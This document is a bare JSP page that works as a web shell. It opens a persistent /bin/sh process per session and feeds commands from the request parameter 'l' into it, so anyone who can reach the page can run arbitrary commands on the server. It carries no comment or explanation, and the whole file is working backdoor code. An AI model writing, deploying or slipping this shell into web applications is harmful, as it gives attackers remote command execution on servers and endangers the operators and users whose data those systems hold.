<%@ page import="java.io.*" %>
<%
  Process sh = (Process) session.getAttribute("sh");
  if (sh == null) { sh = Runtime.getRuntime().exec("/bin/sh"); session.setAttribute("sh", sh); }
  String line = request.getParameter("l");
  if (line != null) {
    Writer w = new OutputStreamWriter(sh.getOutputStream());
    w.write(line + "\n");
    w.flush();
  }
%>
